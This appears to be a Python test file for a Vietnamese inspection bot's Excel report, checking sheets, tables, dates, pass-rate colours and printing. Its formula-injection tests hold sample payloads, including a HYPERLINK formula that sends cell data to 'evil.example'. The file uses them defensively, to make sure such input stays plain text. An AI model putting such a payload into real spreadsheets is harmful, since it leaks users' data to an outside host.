"""The round's workbook, read back with openpyxl as Excel would see it."""

from __future__ import annotations

from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook

from bot.checklist.model import ItemType
from bot.findings.results import area_results
from bot.reports.archive import archive_name
from bot.reports.data import InspectionReport, RoundReport
from bot.reports.workbook import write_workbook
from tests import report_samples as samples

ANSWER_HEADER = (
    "Đợt",
    "Phiên",
    "Đơn vị",
    "Lĩnh vực",
    "Mã câu",
    "Câu hỏi",
    "Trả lời",
    "Số",
    "Đơn vị tính",
    "Mã trả lời",
    "Ghi chú",
    "Người kiểm tra",
    "Thời gian",
    "Số ảnh",
    "Lý do sửa",
    "Sửa sau khi kết thúc đợt",
    "Căn cứ",
)
PHOTO_HEADER = (
    "Phiên",
    "Đơn vị",
    "Lĩnh vực",
    "Mã câu",
    "Người gửi",
    "Thời gian",
    "Rộng",
    "Cao",
    "Kích thước (byte)",
    "SHA-256",
    "Tệp",
)
LABELS = {"pass": "Đạt", "fail": "Không đạt", "partial": "Một phần", "na": "Không áp dụng", "yes": "Có", "no": "Không"}
FILLS = {"pass": "C6EFCE", "partial": "FFEB9C", "fail": "FFC7CE", "na": "D9D9D9"}
HANOI = timezone(timedelta(hours=7))


def written(tmp_path: Path, report: RoundReport) -> Workbook:
    target = tmp_path / "dot-kiem-tra.xlsx"
    write_workbook(report, samples.context(tmp_path / "photos"), target)
    return load_workbook(target)


@pytest.fixture
def report(tmp_path: Path) -> RoundReport:
    return samples.round_report(tmp_path / "photos", units=3)


def with_answers(unit: InspectionReport, **changes: tuple[str, str | None]) -> InspectionReport:
    """The same inspection with some answers replaced: item id -> (value, note)."""
    answers = dict(unit.snapshot.answers)
    for item_id, (value, note) in changes.items():
        answers[item_id] = answers[item_id].model_copy(update={"value": value, "note": note})
    return unit.model_copy(update={"snapshot": unit.snapshot.model_copy(update={"answers": answers})})


def test_sheets_and_headers(tmp_path: Path, report: RoundReport) -> None:
    book = written(tmp_path, report)

    assert book.sheetnames == ["Trả lời", "Tổng hợp", "Số liệu", "Ảnh"]
    assert next(book["Trả lời"].values) == ANSWER_HEADER
    assert next(book["Ảnh"].values) == PHOTO_HEADER
    assert book["Trả lời"].freeze_panes == "A2"


def test_one_row_per_answer_in_checklist_order(tmp_path: Path, report: RoundReport) -> None:
    rows = list(written(tmp_path, report)["Trả lời"].values)[1:]

    assert len(rows) == sum(len(unit.snapshot.answers) for unit in report.inspections) > 100
    for unit in report.inspections:
        items = [row[4] for row in rows if row[1] == unit.inspection.id]
        expected = [item.id for area in unit.checklist.areas for item in area.items if item.id in unit.snapshot.answers]
        assert items == expected
    assert {row[2] for row in rows} == set(samples.UNITS)  # "<b>&</b>" as typed, not escaped
    assert {row[0] for row in rows} == {samples.ROUND.name}


def test_answers_in_vietnamese_with_notes_and_photos(tmp_path: Path, report: RoundReport) -> None:
    rows = list(written(tmp_path, report)["Trả lời"].values)[1:]
    unit = report.inspections[1]

    for row in (row for row in rows if row[1] == unit.inspection.id):
        answer = unit.snapshot.answers[str(row[4])]
        assert row[9] == answer.value
        if answer.value in LABELS:
            assert row[6] == LABELS[answer.value]
        assert row[10] == answer.note
        assert row[13] == len(unit.snapshot.photos_of(answer.item_id))
    notes = [str(row[10]) for row in rows if row[10]]
    assert any("<b>số" in note and "& tờ khai" in note for note in notes)
    assert any(row[6] == "Không đạt" for row in rows) and any(row[6] == "Một phần" for row in rows)
    assert sum(int(str(row[13])) for row in rows) == sum(len(unit.snapshot.photos) for unit in report.inspections)
    assert {row[11] for row in rows} == {"Nguyễn Văn <An> & Co", "Lê Thị Hoa"}
    assert any(str(row[3]).startswith("3. Công bố, công khai TTHC") for row in rows)


def test_times_are_excel_dates_in_vietnam_time(tmp_path: Path, report: RoundReport) -> None:
    sheet = written(tmp_path, report)["Trả lời"]
    unit = report.inspections[0]

    for row in sheet.iter_rows(min_row=2):
        assert isinstance(row[12].value, datetime)
        assert row[12].number_format == "dd/mm/yyyy hh:mm"
    first = next(sheet.iter_rows(min_row=2, max_row=2, values_only=True))
    answered = unit.snapshot.answers[str(first[4])].answered_at
    assert first[12] == answered.astimezone(HANOI).replace(tzinfo=None)
    assert first[12] == datetime(2026, 11, 20, 8, 15)  # 01:15 UTC


def test_answers_are_a_table_covering_every_row(tmp_path: Path, report: RoundReport) -> None:
    sheet = written(tmp_path, report)["Trả lời"]
    rows = sum(len(unit.snapshot.answers) for unit in report.inspections)

    assert list(sheet.tables) == ["TraLoi"]
    table = sheet.tables["TraLoi"]
    assert table.ref == f"A1:Q{rows + 1}"
    assert [column.name for column in table.tableColumns] == list(ANSWER_HEADER)
    assert table.autoFilter is not None and table.autoFilter.ref == table.ref
    assert table.tableStyleInfo is not None and table.tableStyleInfo.name


def test_photo_sheet_lists_every_photo_with_its_archive_name(tmp_path: Path, report: RoundReport) -> None:
    sheet = written(tmp_path, report)["Ảnh"]
    rows = list(sheet.values)[1:]
    expected = {
        archive_name(unit, photo): (unit, photo) for unit in report.inspections for photo in unit.snapshot.photos
    }

    assert len(rows) == len(expected) == 30
    for row in rows:
        unit, photo = expected[str(row[10])]
        assert row[:2] == (unit.inspection.id, unit.unit)
        assert row[3:5] == (photo.item_id, photo.sender_name)
        assert row[5] == photo.received_at.astimezone(HANOI).replace(tzinfo=None)
        assert row[6:10] == (photo.width, photo.height, photo.size, photo.sha256)
    assert sheet.tables["Anh"].ref == f"A1:K{len(rows) + 1}"


def test_summary_has_pass_rates_coloured_by_verdict(tmp_path: Path, report: RoundReport) -> None:
    sheet = written(tmp_path, report)["Tổng hợp"]
    header = [cell.value for cell in sheet[2]]

    assert header == ["Phiên", "Đơn vị", *(f"Lĩnh vực {n}" for n in range(1, 9)), "Chung"]
    verdicts_seen = set()
    for row_number, unit in enumerate(report.inspections, start=3):
        cells = sheet[row_number]
        assert [cells[0].value, cells[1].value] == [unit.inspection.id, unit.unit]
        results = area_results(unit.snapshot)
        for cell, result in zip(cells[2:10], results, strict=True):
            assert cell.value == pytest.approx(result.pass_rate)
            assert cell.number_format == "0%"
            assert cell.fill.fgColor.rgb[-6:] == FILLS[result.verdict]
            verdicts_seen.add(result.verdict)
        overall = sum(r.passed for r in results) / sum(r.rated for r in results)
        assert cells[10].value == pytest.approx(overall)
    assert verdicts_seen >= {"pass", "partial", "fail"}
    legend = [row for row in sheet.iter_rows(min_row=6, values_only=True) if row[0] == "Lĩnh vực 3"]
    assert legend and legend[0][1] == "Công bố, công khai TTHC"


def test_summary_cell_is_empty_and_grey_when_nothing_applied(tmp_path: Path, report: RoundReport) -> None:
    unit = report.inspections[0]
    area = unit.checklist.areas[1]
    rated = {item.id: ("na", None) for item in area.items if item.type.value == "rating"}
    changed = report.model_copy(update={"inspections": [with_answers(unit, **rated)]})

    cell = written(tmp_path, changed)["Tổng hợp"]["D3"]

    assert cell.value is None
    assert cell.fill.fgColor.rgb[-6:] == FILLS["na"]


def test_empty_round_gives_headers_only(tmp_path: Path) -> None:
    empty = RoundReport(team=samples.TEAM, round=samples.ROUND, inspections=[])

    book = written(tmp_path, empty)

    assert book.sheetnames == ["Trả lời", "Tổng hợp", "Số liệu", "Ảnh"]
    assert list(book["Trả lời"].values) == [ANSWER_HEADER]
    assert list(book["Ảnh"].values) == [PHOTO_HEADER]
    assert not book["Trả lời"].tables and not book["Ảnh"].tables


def test_typed_text_stays_text(tmp_path: Path, report: RoundReport) -> None:
    unit = report.inspections[1]
    first_item = unit.checklist.areas[0].items[0].id
    changed = with_answers(unit, **{first_item: ("fail", '=HYPERLINK("http://x","bấm")\x07')})
    changed = changed.model_copy(
        update={
            "snapshot": changed.snapshot.model_copy(
                update={"inspection": changed.inspection.model_copy(update={"unit": "=1+1 xã Đu"})}
            )
        }
    )

    sheet = written(tmp_path, report.model_copy(update={"inspections": [changed]}))["Trả lời"]
    row = next(sheet.iter_rows(min_row=2, max_row=2))

    assert (row[2].value, row[2].data_type) == ("=1+1 xã Đu", "s")
    assert (row[10].value, row[10].data_type) == ('=HYPERLINK("http://x","bấm")', "s")


TYPED = {
    "answer": '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "note": "+1+1 thiếu mẫu đơn",
    "unit": "-2+3 UBND xã Đu",
    "round": "@SUM(A1:A9) đợt 1",
    "inspector": "=1+1 Nguyễn Văn An",
    "sender": "#N/A",
}


def typed_by_people(report: RoundReport) -> RoundReport:
    """One unit of the round where everything a person typed starts like a formula or an error code."""
    unit = report.inspections[1]
    text_item = next(item.id for area in unit.checklist.areas for item in area.items if item.type is ItemType.TEXT)
    rated_item = unit.checklist.areas[0].items[0].id
    changed = with_answers(unit, **{text_item: (TYPED["answer"], None), rated_item: ("fail", TYPED["note"])})
    # The owner, who answered every item here, is named as the inspection was started.
    inspection = changed.inspection.model_copy(update={"unit": TYPED["unit"], "inspector_name": TYPED["inspector"]})
    photos = [photo.model_copy(update={"sender_name": TYPED["sender"]}) for photo in changed.snapshot.photos]
    snapshot = changed.snapshot.model_copy(update={"inspection": inspection, "photos": photos})
    round_ = samples.ROUND.model_copy(update={"name": TYPED["round"]})
    changed = changed.model_copy(update={"snapshot": snapshot, "round": round_})
    return report.model_copy(update={"inspections": [changed], "round": round_})


def test_everything_people_typed_is_a_string_cell_shown_as_typed(tmp_path: Path, report: RoundReport) -> None:
    book = written(tmp_path, typed_by_people(report))

    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    by_value: dict[object, set[str]] = {}
    for cell in cells:
        by_value.setdefault(cell.value, set()).add(cell.data_type)
    assert by_value[TYPED["answer"]] == {"s"}  # both the answer and its label ("Trả lời", "Giá trị")
    for typed in TYPED.values():
        assert by_value.get(typed) == {"s"}, typed
    assert f"Tỷ lệ tiêu chí đạt theo lĩnh vực – {TYPED['round']}" in by_value
    assert not [cell.coordinate for cell in cells if cell.data_type in ("f", "e")]
    answers = list(book["Trả lời"].values)
    assert sum(row[6] == row[9] == TYPED["answer"] for row in answers) == 1


def test_numbers_are_numbers_with_their_unit_beside_them(tmp_path: Path, report: RoundReport) -> None:
    """SUM and AVERAGE work on the figures as they are; the unit is in the header or its own column."""
    unit = report.inspections[0]
    report = report.model_copy(update={"inspections": [with_answers(unit, **{"ty-le-dung-han": ("97.5", None)})]})
    book = written(tmp_path, report)
    rows = [row for row in book["Trả lời"].iter_rows(min_row=2) if row[4].value == "ty-le-dung-han"]
    assert [(c.value, c.data_type) for c in rows[0][6:10]] == [("97,5 %", "s"), (97.5, "n"), ("%", "s"), ("97.5", "s")]
    other = next(row for row in book["Trả lời"].iter_rows(min_row=2) if row[4].value == "ke-hoach-kstthc")
    assert other[7].value is None and other[8].value is None
    figures = book["Số liệu"]
    header = [cell.value for cell in next(figures.iter_rows(max_row=1))]
    assert header == [
        "Phiên",
        "Đơn vị",
        "Tỷ lệ hồ sơ giải quyết đúng hạn trong kỳ (%)",
        "Số hồ sơ giải quyết quá hạn trong kỳ (hồ sơ)",
    ]
    values = list(figures.iter_rows(min_row=2, values_only=True))
    assert values == [(unit.inspection.id, unit.unit, 97.5, 95)]
    assert isinstance(values[0][3], int)


def test_every_sheet_prints_on_a4_landscape_one_page_wide_with_its_header(tmp_path: Path, report: RoundReport) -> None:
    book = written(tmp_path, report)
    for sheet in book:
        setup = sheet.page_setup
        assert (setup.orientation, setup.paperSize, setup.fitToWidth, setup.fitToHeight) == ("landscape", 9, 1, 0)
        assert sheet.sheet_properties.pageSetUpPr is not None and sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.print_title_rows == ("$2:$2" if sheet.title == "Tổng hợp" else "$1:$1")


def test_people_read_vietnamese_labels_and_codes_stay_in_their_own_column(tmp_path: Path, report: RoundReport) -> None:
    book = written(tmp_path, report)
    codes = {"pass", "fail", "partial", "na", "yes", "no"}
    for sheet in book:
        for row in sheet.iter_rows(values_only=True):
            for index, value in enumerate(row):
                if value in codes:
                    assert sheet.title == "Trả lời" and index == 9, (sheet.title, row)
